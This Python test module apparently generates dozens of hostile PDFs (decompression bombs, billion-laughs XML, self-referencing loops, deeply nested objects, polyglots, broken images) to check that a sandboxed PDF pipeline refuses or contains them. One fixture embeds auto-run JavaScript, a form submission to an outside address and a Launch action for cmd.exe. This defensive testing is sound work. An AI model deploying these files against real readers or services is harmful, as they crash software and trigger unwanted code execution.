"""Documents made to harm the programs that open them, of every class there is, written byte by byte."""

from __future__ import annotations

import io
import zlib

import pypdf
from corpus.index import encoded, picture

from hostile.files import ACTIVE, BOMB, BROKEN, DEPTH, FAN, LIE, LOOP, MISLABELLED, NUMBER, POLYGLOT, Hostile
from hostile.pictures import HTML, MEGABYTES, POSTSCRIPT, ZIP, nothing
from trusted.jail import stages
from trusted.jail.stages import Refused

PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources 5 0 R%s>>"
INK = b"0 0 1 rg 20 20 100 100 re f"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


def document(
    content: bytes = INK,
    *,
    filters: bytes = b"",
    objects: dict[int, bytes] | None = None,
    resources: bytes = b"<<>>",
    page: bytes = b"",
    catalog: bytes = b"",
    trailer: bytes = b"",
) -> bytes:
    """One page. `objects` adds to its five objects or replaces them; `trailer` goes into the trailer."""
    made: dict[int, bytes] = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog, 2: PAGES, 3: PAGE % page, 4: stream(content, filters), 5: resources,
    }  # fmt: skip
    made |= objects or {}
    output, offsets = bytearray(b"%PDF-1.7\n"), {}
    for number, body in made.items():
        offsets[number] = len(output)
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(output)
    size = max(made) + 1
    output += b"xref\n0 %d\n" % size
    for number in range(size):
        output += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    output += b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, table)
    return bytes(output)


def picture_object(width: int, height: int, data: bytes, entries: bytes) -> bytes:
    return stream(data, b"/Type/XObject/Subtype/Image/Width %d/Height %d%s" % (width, height, entries))


def showing(body: bytes, **more: bytes) -> bytes:
    """A page that draws one picture or form, object 6."""
    return document(b"100 0 0 100 0 0 cm /X Do", resources=b"<</XObject<</X 6 0 R>>>>", objects={6: body}, **more)


def locked(password: str) -> bytes:
    """Made by a library, with the oldest cipher, which needs no help from another one."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(100, 100)
    writer.encrypt(user_password=password, owner_password="other", algorithm="RC4-128")
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def form(content: bytes, resources: bytes = b"") -> bytes:
    return stream(content, b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<<%s>>" % resources)


def forms_that_draw_forms(levels: int = 12) -> bytes:
    """Each draws the next ten times: a million million pictures of one line."""
    objects = {
        6 + level: form(b"/X Do " * 10, b"/XObject<</X %d 0 R>>" % (7 + level)) for level in range(levels)
    }  # fmt: skip
    objects[6 + levels] = form(INK)
    return document(b"/X Do", resources=b"<</XObject<</X 6 0 R>>>>", objects=objects)


def shared_kids(levels: int = 22) -> bytes:
    """Each node has the next one as a child twice: four million pages from two kilobytes."""
    objects = {2: b"<</Type/Pages/Count 4194304/Kids[10 0 R 10 0 R]>>"}
    for level in range(levels):
        kid = b"%d 0 R" % (11 + level) if level < levels - 1 else b"3 0 R"
        objects[10 + level] = b"<</Type/Pages/Parent 2 0 R/Count 2/Kids[%s %s]>>" % (kid, kid)
    return document(objects=objects)


def entities() -> bytes:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 12))
    packet = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">' + laughs + b"]><x:xmpmeta>&l11;</x:xmpmeta>"
    return document(catalog=b"/Metadata 6 0 R", objects={6: stream(packet, b"/Type/Metadata/Subtype/XML")})


def circle_of_tables() -> bytes:
    made = document()
    at = made.rindex(b"xref\n0", 0, made.rindex(b"startxref"))
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def object_stream(entries: bytes, number: int = 6) -> bytes:
    return stream(b"10 0 <</A 1>>", b"/Type/ObjStm/N 1/First 5%s" % entries)


def font_of_itself() -> bytes:
    glyph = stream(b"1000 0 d0 BT /F 1 Tf (a) Tj ET")
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1000 1000]/FontMatrix[.001 0 0 .001 0 0]/FirstChar 97/LastChar 97"
        b"/Widths[1000]/CharProcs<</a 7 0 R>>/Encoding<</Differences[97/a]>>/Resources<</Font<</F 6 0 R>>>>>>"
    )
    return document(
        b"BT /F 20 Tf 10 10 Td (aaa) Tj ET", resources=b"<</Font<</F 6 0 R>>>>", objects={6: font, 7: glyph}
    )


def pattern_of_itself() -> bytes:
    pattern = stream(
        b"/Pattern cs /P scn 0 0 10 10 re f",
        b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 10 10]/XStep 10/YStep 10/Resources<</Pattern<</P 6 0 R>>>>",
    )
    return document(b"/Pattern cs /P scn 0 0 200 200 re f", resources=b"<</Pattern<</P 6 0 R>>>>", objects={6: pattern})


def narrow_pattern() -> bytes:
    """Cells of a ten thousandth: four million million of them on a page."""
    pattern = stream(
        INK, b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 .0001 .0001]/XStep .0001/YStep .0001/Resources<<>>"
    )
    return document(b"/Pattern cs /P scn 0 0 200 200 re f", resources=b"<</Pattern<</P 6 0 R>>>>", objects={6: pattern})


def mask_of_itself() -> bytes:
    group = stream(
        b"/G gs 0 0 99 99 re f",
        b"/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Group<</S/Transparency>>/Resources<</ExtGState<</G 6 0 R>>>>",
    )
    return document(b"/G gs 0 0 99 99 re f", resources=b"<</ExtGState<</G 6 0 R>>>>", objects={6: b"<</SMask<</S/Alpha/G 7 0 R>>>>", 7: group})  # fmt: skip


def functions_of_themselves() -> bytes:
    function = b"<</FunctionType 3/Domain[0 1]/Functions[6 0 R 6 0 R]/Bounds[.5]/Encode[0 1 0 1]>>"
    shading = b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 200 0]/Function 6 0 R>>"
    return document(b"/S sh", resources=b"<</Shading<</S 7 0 R>>>>", objects={6: function, 7: shading})


def huge_function() -> bytes:
    """A sampled function of eight inputs, sixteen samples each: four thousand million values."""
    function = stream(
        b"x", b"/FunctionType 0/Domain[%s]/Range[0 1]/Size[%s]/BitsPerSample 8" % (b"0 1 " * 8, b"16 " * 8)
    )
    space = b"[/DeviceN[%s]/DeviceGray 6 0 R]" % b"".join(b"/C%d" % number for number in range(8))
    return document(
        b"/C cs %s scn 0 0 99 99 re f" % (b".5 " * 8),
        resources=b"<</ColorSpace<</C %s>>>>" % space,
        objects={6: function},
    )


def many_pages(count: int) -> bytes:
    return document(objects={2: b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, b"3 0 R " * count)})


def deep_names(depth: int) -> bytes:
    objects = {10 + level: b"<</Kids[%d 0 R]>>" % (11 + level) for level in range(depth)}
    objects[10 + depth] = b"<</Names[(a) 3 0 R]>>"
    return document(catalog=b"/Names<</Dests 10 0 R>>", objects=objects)


def active() -> bytes:
    script, send = b"<</S/JavaScript/JS(app.alert\\(1\\))>>", b"<</S/SubmitForm/F(http://198.51.100.1/)>>"
    launch, address = b"<</S/Launch/F(cmd.exe)>>", b"<</S/URI/URI(http://198.51.100.1/)>>"
    links = b"".join(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A %s>>" % action for action in (script, send, launch, address)
    )
    return document(
        catalog=b"/OpenAction %s/AA<</WC %s>>/Names<</JavaScript<</Names[(x) %s]>>>>" % (script, send, script),
        page=b"/AA<</O %s/C %s>>/Annots[%s]" % (script, launch, links),
    )


def pdfs() -> dict[str, Hostile]:
    """Every one of them."""
    bomb = nothing(MEGABYTES << 20)
    twice = zlib.compress(bomb, 9)
    runs = zlib.compress(b"\x81\0" * (MEGABYTES << 13) + b"\x80", 9)  # each pair stands for 128 zeros
    lzw = zlib.compress(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 2_000_000, 9)
    jpeg, plain = encoded(picture(), "JPEG"), document()
    grey, flate = b"/ColorSpace/DeviceGray/BitsPerComponent 8", b"/Filter/FlateDecode"
    return {
        "contents that inflate to 200 MiB": Hostile(BOMB, document(bomb, filters=flate)),
        "contents that inflate twice": Hostile(BOMB, document(twice, filters=b"/Filter[/FlateDecode/FlateDecode]")),
        "contents that inflate three times": Hostile(BOMB, document(zlib.compress(twice, 9), filters=b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")),
        "contents of inflated runs": Hostile(BOMB, document(runs, filters=b"/Filter[/FlateDecode/RunLengthDecode]")),
        "contents of inflated LZW": Hostile(BOMB, document(lzw, filters=b"/Filter[/FlateDecode/LZWDecode]")),
        "five thousand filters": Hostile(BOMB, document(filters=b"/Filter[%s]" % (b"/ASCIIHexDecode" * 5000))),
        "a picture of ten gigapixels": Hostile(BOMB, showing(picture_object(100_000, 100_000, bomb, grey + flate))),
        "a one-bit picture of four gigapixels": Hostile(BOMB, showing(picture_object(65_000, 65_000, bomb, b"/ImageMask true/BitsPerComponent 1" + flate))),
        "a JPEG that says it is large": Hostile(BOMB, showing(picture_object(60_000, 60_000, jpeg, grey + b"/Filter/DCTDecode"))),
        "a picture that predicts": Hostile(BOMB, showing(picture_object(9000, 9000, bomb, grey + flate + b"/DecodeParms<</Predictor 15/Columns 2147483647>>"))),
        "a metadata stream that inflates": Hostile(BOMB, document(catalog=b"/Metadata 6 0 R", objects={6: stream(bomb, b"/Type/Metadata/Subtype/XML" + flate)})),
        "a page of two miles": Hostile(BOMB, document(objects={3: (PAGE % b"").replace(b"200 200", b"9999999 9999999")})),
        "a page of a large unit": Hostile(BOMB, document(page=b"/UserUnit 1000000")),
        "a page without a size": Hostile(LIE, document(objects={3: (PAGE % b"").replace(b"200 200", b"0 0")})),
        "a page of no number": Hostile(LIE, document(objects={3: (PAGE % b"").replace(b"200 200", b"nan 1e400")})),
        "two thousand million pages in the count": Hostile(LIE, document(objects={2: b"<</Type/Pages/Count 2147483647/Kids[3 0 R]>>"})),
        "fewer than no pages in the count": Hostile(LIE, document(objects={2: b"<</Type/Pages/Count -5/Kids[3 0 R]>>"})),
        "a table of four thousand million objects": Hostile(LIE, plain.replace(b"xref\n0 6", b"xref\n0 4294967295").replace(b"/Size 6", b"/Size 4294967295")),
        "a stream of two gigabytes": Hostile(LIE, document(objects={4: b"<</Length 2147483647>>stream\n" + INK + b"\nendstream"})),
        "a stream of less than nothing": Hostile(LIE, document(objects={4: b"<</Length -1>>stream\n" + INK + b"\nendstream"})),
        "a picture shorter than it says": Hostile(LIE, showing(picture_object(5000, 5000, b"x", grey))),
        "a page tree that contains itself": Hostile(LOOP, document(objects={2: b"<</Type/Pages/Count 2/Kids[2 0 R 2 0 R]>>"}), Refused),
        "a page that is its own parent": Hostile(LOOP, document(objects={3: b"<</Type/Page/Parent 3 0 R/Contents 4 0 R>>"})),
        "a form that draws itself": Hostile(LOOP, showing(form(b"/X Do", b"/XObject<</X 6 0 R>>"))),
        "a table before itself": Hostile(LOOP, circle_of_tables()),
        "an object stream that goes on in itself": Hostile(LOOP, document(objects={6: object_stream(b"/Extends 6 0 R")})),
        "a length that is its own": Hostile(LOOP, document(objects={4: b"<</Length 4 0 R>>stream\n" + INK + b"\nendstream"})),
        "an object that is itself": Hostile(LOOP, document(objects={5: b"5 0 R"})),
        "a font whose letter is written in it": Hostile(LOOP, font_of_itself()),
        "a mask masked by itself": Hostile(LOOP, mask_of_itself()),
        "a function of itself": Hostile(LOOP, functions_of_themselves()),
        "a colour space based on itself": Hostile(LOOP, document(b"/C cs 0 sc 0 0 99 99 re f", resources=b"<</ColorSpace<</C 6 0 R>>>>", objects={6: b"[/Indexed 6 0 R 1 (ab)]"})),
        "an outline in a circle": Hostile(LOOP, document(catalog=b"/Outlines 6 0 R", objects={6: b"<</First 7 0 R/Last 7 0 R>>", 7: b"<</Title(a)/Parent 6 0 R/Next 7 0 R>>"})),
        "names in a circle": Hostile(LOOP, document(catalog=b"/Names<</EmbeddedFiles 6 0 R/JavaScript 6 0 R>>", objects={6: b"<</Kids[6 0 R 6 0 R]>>"})),
        "fields in a circle": Hostile(LOOP, document(catalog=b"/AcroForm<</Fields[6 0 R]>>", objects={6: b"<</T(a)/Kids[6 0 R 6 0 R]>>"})),
        "forms that draw forms ten times over": Hostile(FAN, forms_that_draw_forms()),
        "four million pages from shared branches": Hostile(FAN, shared_kids()),
        "a thousand million laughs in the metadata": Hostile(FAN, entities()),
        "a pattern of a ten thousandth": Hostile(FAN, narrow_pattern()),
        "a function of eight inputs": Hostile(FAN, huge_function()),
        "arrays fifty thousand deep, contents": Hostile(DEPTH, document(b"[" * 50_000 + b"]" * 50_000)),
        "arrays fifty thousand deep, object": Hostile(DEPTH, document(objects={5: b"[" * 50_000 + b"]" * 50_000})),
        "dictionaries fifty thousand deep": Hostile(DEPTH, document(objects={5: b"<</A" * 50_000 + b" 1" + b">>" * 50_000})),
        "brackets a hundred thousand deep": Hostile(DEPTH, document(b"BT (" + b"(" * 100_000 + b")" * 100_000 + b") Tj ET")),
        "forty thousand saved states": Hostile(DEPTH, document(b"q " * 40_000)),
        "forty thousand marks within marks": Hostile(DEPTH, document(b"/A BMC " * 40_000 + INK)),
        "names twenty thousand deep": Hostile(DEPTH, deep_names(20_000)),
        "2,001 pages": Hostile(NUMBER, many_pages(2001), stages.TooManyPages),
        "a million pages in one list": Hostile(NUMBER, many_pages(1_000_000), Refused),
        "two hundred thousand objects": Hostile(NUMBER, document(objects=dict.fromkeys(range(6, 200_006), b"1"))),
        "a million operands": Hostile(NUMBER, document(zlib.compress(b"1 " * 1_000_000 + b"re f", 9), filters=flate)),
        "ten thousand annotations": Hostile(NUMBER, document(page=b"/Annots[%s]" % (b"<</Type/Annot/Subtype/Square/Rect[0 0 9 9]/C[1 0 0]>>" * 10_000))),
        "a picture named as a PDF": Hostile(MISLABELLED, b"\n%PDF-1.7\n" + jpeg, Refused),
        "PostScript behind a PDF's first letters": Hostile(MISLABELLED, b"%PDF-1.7\n" + POSTSCRIPT, Refused),
        "an archive behind a PDF": Hostile(POLYGLOT, plain + ZIP, never=(b"PK\x05\x06",)),
        "a web page before a PDF's objects": Hostile(POLYGLOT, plain.replace(b"%PDF-1.7\n", b"%PDF-1.7\n%" + HTML + b"\n"), never=(b"script",)),
        "a web page behind a PDF": Hostile(POLYGLOT, plain + HTML, never=(b"script",)),
        "a line of blanks before a PDF": Hostile(POLYGLOT, b"\n\n" + plain),
        "half a PDF": Hostile(BROKEN, plain[: len(plain) // 2]),
        "a PDF without pages": Hostile(BROKEN, b"%PDF-1.7\n%%EOF\n", stages.Damaged),
        "a first line and rubbish": Hostile(BROKEN, b"%PDF-1.7\n" + bytes(range(256)) * 200, Refused),
        "an inline picture without an end": Hostile(BROKEN, document(b"BI /W 9 /H 9 /BPC 8 /CS /G ID " + bytes(200))),
        "a broken JBIG2 picture": Hostile(BROKEN, showing(picture_object(64, 64, bytes(range(200)), b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode"))),
        "a broken JPEG 2000 picture": Hostile(BROKEN, showing(picture_object(64, 64, b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(range(200)), b"/Filter/JPXDecode"))),
        "a broken fax picture": Hostile(BROKEN, showing(picture_object(2000, 2000, b"\x55" * 200, b"/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2147483647>>"))),
        "a PDF with a password": Hostile(BROKEN, locked("secret"), stages.Locked),
        "a PDF with restrictions": Hostile(BROKEN, locked("")),
        "scripts, programs and addresses": Hostile(ACTIVE, active(), never=(b"JavaScript", b"Launch", b"SubmitForm", b"198.51.100.1", b"/AA", b"OpenAction")),
        **endless_pdfs(),
    }  # fmt: skip


def endless_pdfs() -> dict[str, Hostile]:
    """What PDFium would draw on and on: it is not asked to."""
    flate = b"/Filter/FlateDecode"
    operators = zlib.compress(b"0 0 m 200 200 l S\n" * 1_000_000, 9)
    points = zlib.compress(b"0 0 m\n" + b"1 200 l 200 1 l\n" * 500_000 + b"S", 9)
    return {
        "a pattern painted with itself": Hostile(LOOP, pattern_of_itself()),
        "three million operators": Hostile(NUMBER, document(operators, filters=flate)),
        "a line of a million points": Hostile(NUMBER, document(points, filters=flate), stages.TookTooLong),
        "a line of a million points in a form": Hostile(
            NUMBER,
            showing(stream(points, b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<<>>" + flate)),
            stages.TookTooLong,
        ),
    }
